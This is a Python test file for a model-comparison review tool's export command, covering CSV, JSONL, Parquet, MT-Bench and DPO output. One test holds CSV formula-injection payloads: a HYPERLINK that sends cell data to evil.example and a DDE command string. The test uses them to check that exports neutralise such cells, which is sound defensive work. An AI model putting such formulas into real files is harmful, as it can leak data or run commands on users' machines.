"""`review export`: the columns of every format, DPO pairs, and the MT-Bench roundtrip."""

from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from review.core.db import session_scope
from review.interchange.exports import EXPORT_COLUMNS
from review.interchange.mtbench import parse_mtbench_file
from review.core.models import Judgment
from tests.factories import make_reviewer, make_study_with_items
from tests.reports.simulate import mtbench_file

STUDY = "sft-step-300"
DEMO_ITEMS = 24  # items per study of the ``demo`` fixture's run
ANALYSIS_KEYS = ("counts", "win_rate", "decisive_win_rate", "agreement", "by_category",
                 "position_bias", "ratings", "length_bias", "both_bad_rate")


def read_jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def test_jsonl_has_one_row_per_judgment_with_the_documented_columns(cli, demo, tmp_path):
    code, out, err = cli("export", "--study", STUDY, "--format", "jsonl")
    assert code == 0, err
    rows = read_jsonl(out)
    assert len(rows) == 26 * 3  # 24 items + 2 gold items, 3 reviewers each
    assert all(list(row) == EXPORT_COLUMNS for row in rows)
    for row in rows:
        assert row["study"] == STUDY
        assert {row["model_left"], row["model_right"]} == {STUDY, "smollm2-base"}
        # The answer shown on a side is that side's model's answer.
        assert (row["answer_left"].startswith("The fine-tune")) == (row["model_left"] == STUDY) \
            or row["prompt_id"].startswith("gold")
        assert row["winner_model"] == {"left": row["model_left"], "right": row["model_right"]}.get(row["choice"])
        assert row["messages"][-1] == {"role": "user", "content": row["prompt"]}
        assert row["created_at"].endswith("Z")
        assert isinstance(row["judgment_id"], int) and isinstance(row["item"], int)
        assert (row["strength"] is None) == (row["choice"] in ("tie", "both_bad"))
    gold = [row for row in rows if row["gold"] is not None]
    assert len(gold) == 6 and {row["gold"] for row in gold} == {STUDY}
    assert {row["reviewer"] for row in rows} == {"alice", "bob", "carol"}
    assert rows == sorted(rows, key=lambda r: r["judgment_id"])


def test_csv_has_the_same_columns_and_rows(cli, demo, tmp_path):
    path = tmp_path / "judgments.csv"
    code, _, err = cli("export", "--study", STUDY, "--format", "csv", "-o", path)
    assert code == 0, err
    assert "wrote 78 judgments" in err
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert list(rows[0]) == EXPORT_COLUMNS
    assert len(rows) == 78
    assert json.loads(rows[0]["messages"])[0]["role"] == "user"
    assert {row["choice"] for row in rows} <= {"left", "right", "tie", "both_bad"}
    assert rows[0]["created_at"].endswith("Z")
    # Answers with newlines survive the quoting.
    assert any("\n- first point" in row["answer_left"] for row in rows)


def test_csv_cells_never_become_spreadsheet_formulas(cli, demo, tmp_path):
    """A reviewer's rationale =HYPERLINK(...) must not become a live link in the analyst's sheet."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1,2)", "\t=1+1", "\uff1d1+1"]
    ids = [row["judgment_id"] for row in read_jsonl(cli("export", "--study", STUDY, "--format", "jsonl")[1])]
    with session_scope(demo, write=True) as session:
        for judgment_id, text in zip(ids, hostile, strict=False):
            session.get(Judgment, judgment_id).rationale = text
    path = tmp_path / "judgments.csv"
    assert cli("export", "--study", STUDY, "--format", "csv", "-o", path)[0] == 0
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert [row["rationale"] for row in rows[:len(hostile)]] == ["'" + text for text in hostile]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSONL keeps the exact text: it is data, not a spreadsheet.
    code, out, _ = cli("export", "--study", STUDY, "--format", "jsonl")
    assert [r["rationale"] for r in read_jsonl(out)][:len(hostile)] == hostile


def test_parquet_columns_and_types(cli, demo, tmp_path):
    path = tmp_path / "judgments.parquet"
    code, _, err = cli("export", "--study", STUDY, "--format", "parquet", "-o", path)
    assert code == 0, err
    table = pq.read_table(path)
    assert table.column_names == EXPORT_COLUMNS
    assert table.num_rows == 78
    schema = table.schema
    assert schema.field("judgment_id").type == pa.int64()
    assert schema.field("strength").type == pa.int64()
    assert schema.field("seconds").type == pa.float64()
    assert schema.field("created_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("answer_left").type == pa.string()
    frame = table.to_pandas()
    assert frame["strength"].isna().sum() == (frame["choice"].isin(["tie", "both_bad"])).sum()


def test_mtbench_export_is_the_import_format(cli, demo, tmp_path):
    path = tmp_path / "mt.jsonl"
    code, _, err = cli("export", "--study", STUDY, "--format", "mtbench", "-o", path)
    assert code == 0, err
    rows = read_jsonl(path.read_text(encoding="utf-8"))
    assert len(rows) == 24 * 3  # gold (attention-check) judgments are left out
    first = rows[0]
    assert {"question_id", "model_a", "model_b", "winner", "judge", "turn", "conversation_a",
            "conversation_b", "category", "seconds", "study", "tstamp"} <= set(first)
    assert all(r["winner"] in ("model_a", "model_b", "tie", "tie (bothbad)") for r in rows)
    assert all(r["conversation_a"][-1]["role"] == "assistant" and r["turn"] == 1 for r in rows)
    parsed = parse_mtbench_file(path)  # the importer accepts every line
    assert [p.choice for p in parsed] == [
        {"model_a": "left", "model_b": "right", "tie": "tie", "tie (bothbad)": "both_bad"}[r["winner"]]
        for r in rows]


def _analysis(cli, study: str) -> dict:
    code, out, err = cli("analyze", "--study", study, "--json", "--bootstrap", "200")
    assert code == 0, err
    return json.loads(out)


def assert_close(actual, expected, path="result"):  # noqa: ANN001
    """Equal, floats to 1e-12 (sums may run in another order)."""
    if isinstance(expected, dict):
        assert set(actual) == set(expected), path
        for key in expected:
            assert_close(actual[key], expected[key], f"{path}.{key}")
    elif isinstance(expected, list):
        assert len(actual) == len(expected), path
        for index, (a, e) in enumerate(zip(actual, expected, strict=True)):
            assert_close(a, e, f"{path}[{index}]")
    elif isinstance(expected, float):
        assert actual == pytest.approx(expected, rel=1e-12, abs=1e-12), path
    else:
        assert actual == expected, path


def assert_same_judgments(engine, original: str, copy: str) -> None:
    """The copy holds the original's non-gold judgments, row for row, and relabelling the
    items (new database ids) changes no statistic."""
    from review.reporting.dataset import study_judgments
    from review.core.lookup import get_study
    from review.stats import AnalysisOptions, analyze

    with session_scope(engine) as session:
        studies = [get_study(session=session, name=name) for name in (original, copy)]
        first, second = (study_judgments(session=session, study=s) for s in studies)
        pair = [(s.candidate.name if s.candidate else None, s.baseline.name if s.baseline else None)
                for s in studies]
    first = first[first["gold"].isna()].reset_index(drop=True)
    columns = [c for c in first.columns if c != "item"]
    assert first[columns].astype(object).where(first[columns].notna(), None).values.tolist() == \
        second[columns].astype(object).where(second[columns].notna(), None).values.tolist()
    first["item"] = second["item"].to_numpy()
    candidate, baseline = pair[1]
    results = [analyze(frame, AnalysisOptions(candidate=candidate, baseline=baseline, n_bootstrap=200))
               for frame in (first, second)]
    assert results[0] == results[1]


def test_mtbench_roundtrip_gives_the_same_analysis(cli, demo, tmp_path):
    path = tmp_path / "mt.jsonl"
    assert cli("export", "--study", STUDY, "--format", "mtbench", "-o", path)[0] == 0
    code, _, err = cli("import-judgments", path, "--study", "copy", "--candidate", STUDY,
                       "--baseline", "smollm2-base")
    assert code == 0, err
    original, copy = _analysis(cli, STUDY), _analysis(cli, "copy")
    for key in ANALYSIS_KEYS:
        assert_close(copy[key], original[key], key)
    # The export leaves gold items out (their answers are planted), so only the copy says
    # that reviewer reliability could not be checked; everything else is the same.
    without_gold = lambda decision: {**decision, "reasons": [  # noqa: E731
        r for r in decision["reasons"] if "gold items" not in r]}
    assert without_gold(copy["decision"]) == without_gold(original["decision"])
    assert any("gold items" in r for r in copy["decision"]["reasons"])
    assert copy["n_judgments"] == original["n_judgments"] - original["n_gold_judgments"]
    assert_same_judgments(demo, STUDY, "copy")


def test_mtbench_roundtrip_of_an_imported_six_model_study(cli, engine, tmp_path):
    source = mtbench_file(tmp_path / "source.jsonl", seed=3)
    assert cli("import-judgments", source, "--study", "mt")[0] == 0
    exported = tmp_path / "exported.jsonl"
    assert cli("export", "--study", "mt", "--format", "mtbench", "-o", exported)[0] == 0
    assert cli("import-judgments", exported, "--study", "mt-copy")[0] == 0
    original, copy = _analysis(cli, "mt"), _analysis(cli, "mt-copy")
    assert len(original["ratings"]) == 6
    for key in ("agreement", "position_bias", "ratings", "length_bias", "n_judgments", "n_items", "decision"):
        assert_close(copy[key], original[key], key)
    assert_same_judgments(engine, "mt", "mt-copy")
    # Second turns keep their question id and turn; extra keys survive.
    source_rows = read_jsonl(source.read_text())
    exported_rows = read_jsonl(exported.read_text())
    assert sorted((r["question_id"], r["turn"], r["judge"], r["winner"], r["tstamp"]) for r in exported_rows) \
        == sorted((r["question_id"], r["turn"], r["judge"], r["winner"], r["tstamp"]) for r in source_rows)


def _vote(session, item, reviewer, preferred: str, *, candidate_left: bool = True) -> None:
    left = item.generation_a_id if candidate_left else item.generation_b_id
    if preferred in ("tie", "both_bad"):
        choice = preferred
    else:
        candidate_won = preferred == "ft"
        choice = "left" if candidate_won == candidate_left else "right"
    session.add(Judgment(comparison_id=item.id, reviewer_id=reviewer.id, left_generation_id=left,
                         choice=choice, strength=2 if choice in ("left", "right") else None))


def test_dpo_pairs_follow_the_majority_vote(cli, engine):
    with session_scope(engine, write=True) as session:
        _, items = make_study_with_items(session, name="s", n_items=5)
        reviewers = [make_reviewer(session, name) for name in ("r1", "r2", "r3")]
        votes = [
            ("ft", "ft", "base"),        # 2 of 3 prefer ft -> chosen ft
            ("tie", "tie", "ft"),        # majority tie -> left out
            ("ft", "base", "tie"),       # no majority -> left out
            ("base", "base", "base"),    # chosen base
            ("ft", "base", None),        # 1 of 2 is not more than half -> left out
        ]
        for number, (item, item_votes) in enumerate(zip(items, votes, strict=True)):
            for position, (reviewer, preferred) in enumerate(zip(reviewers, item_votes, strict=True)):
                if preferred is not None:
                    _vote(session, item, reviewer, preferred, candidate_left=(number + position) % 2 == 0)
    code, out, err = cli("export", "--study", "s", "--format", "dpo")
    assert code == 0, err
    pairs = read_jsonl(out)
    assert [(p["prompt_id"], p["chosen_model"], p["rejected_model"], p["votes"], p["n_votes"])
            for p in pairs] == [("p0", "ft", "base", 2, 3), ("p3", "base", "ft", 3, 3)]
    first = pairs[0]
    assert first["prompt"] == [{"role": "user", "content": "Question 0?"}]
    assert first["chosen"] == [{"role": "assistant", "content": "ft answer p0"}]
    assert first["rejected"] == [{"role": "assistant", "content": "base answer p0"}]
    assert pairs[1]["chosen"] == [{"role": "assistant", "content": "base answer p3"}]


def test_export_errors_are_one_line_and_leave_nothing_behind(cli, demo, tmp_path, monkeypatch):
    code, out, err = cli("export", "--study", "nope", "--format", "jsonl")
    assert code == 1 and err.startswith("error: no study named 'nope'") and err.count("\n") == 1
    code, _, err = cli("export", "--study", STUDY, "--format", "xml")
    assert code == 1 and "xml" in err
    code, _, err = cli("export", "--study", STUDY, "--format", "csv", "-o", tmp_path / "missing" / "x.csv")
    assert code == 1 and "no such directory" in err

    # A failure half-way through leaves the previous file untouched and no temporary file.
    target = tmp_path / "out" / "judgments.jsonl"
    target.parent.mkdir()
    target.write_text("previous\n")

    def broken(*, session, study, fmt, out):  # noqa: ANN001, ANN202
        out.write(b'{"partial": ')
        from review.core.errors import ReviewError
        raise ReviewError("disk trouble")

    monkeypatch.setattr("review.interchange.exports.write_export", broken)
    code, _, err = cli("export", "--study", STUDY, "--format", "jsonl", "-o", target)
    assert code == 1 and "disk trouble" in err
    assert target.read_text() == "previous\n"
    assert [p.name for p in target.parent.iterdir()] == ["judgments.jsonl"]
